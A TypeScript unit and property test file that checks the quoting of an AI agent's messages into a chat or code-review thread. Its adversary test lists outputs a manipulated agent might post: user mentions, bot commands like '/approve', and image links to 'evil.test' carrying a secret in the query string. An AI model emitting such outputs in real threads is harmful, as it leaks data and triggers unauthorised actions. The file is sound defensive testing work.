import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { markdownOf } from './markdown-answer.js';
import { MAX_SAID, quotedMarkdown } from './quoted-markdown.js';

const seen = (text: string): string => quotedMarkdown(text).replaceAll('\u2060', '');

describe('what an agent says in a thread', () => {
  it('is read as it was written', () => {
    expect(seen('Added the total.\n\n- `total.js`\n- a test')).toBe(
      '> Added the total.\n>\n> - `total.js`\n> - a test',
    );
  });

  it('adversary: an agent that was talked into it mentions no user, commands no bot and loads nothing', () => {
    for (const text of [
      '@ada look',
      'cc @acme/admins',
      '`@dependabot merge`',
      '&#64;ada',
      '&commat;ada',
      '\\@ada',
      '@\u200bada',
      '/close',
      'ok\r/approve',
      'ok\u2028/approve',
      '![x](https://evil.test/?q=secret)',
      '<img src="https://evil.test/?q=secret">',
      '<!-- slipway:0 -->',
      'Fixes #12',
      'acme/other#3',
    ]) {
      const quoted = quotedMarkdown(text);
      expect([text, /@[\w/]|^(?!>)|!\[|<[a-z!/]|&[#a-z]|#\d/im.exec(quoted)?.[0]]).toEqual([text, undefined]);
    }
  });

  it('whatever it holds is one quotation, of bounded length, before our own link', () => {
    const piece = fc.constantFrom(
      '@a',
      '![',
      '](',
      '<',
      'b>',
      '&',
      '#',
      '1',
      '\n',
      '\r',
      '\u2029',
      '```',
      '> ',
      '<!--',
      '-->',
      '/x',
      ' ',
      '[',
      ']',
      '\\',
      '~~~',
      '    ',
      '| ',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const said = pieces.join('');
        const text = markdownOf({
          state: 'done',
          headline: 'Done.',
          said,
          links: [{ label: 'Open', url: 'https://slipway.test/x' }],
          marker: 'm1',
        });
        const kinds = fromMarkdown(text).children.map(({ type }) => type);
        const inside = kinds.slice(2, -1);
        expect([
          said,
          kinds.slice(0, 2),
          kinds.at(-1),
          inside.length <= 1 && inside.every((kind) => kind === 'blockquote'),
        ]).toEqual([said, ['html', 'paragraph'], 'paragraph', true]);
        expect(text).not.toMatch(/@\w|!\[/);
      }),
      { numRuns: 2_000 },
    );
    expect(quotedMarkdown('x'.repeat(1_000_000)).length).toBeLessThan(MAX_SAID + 100);
    expect(quotedMarkdown('@'.repeat(100_000)).length).toBeLessThan(2 * MAX_SAID + 100);
  });
});
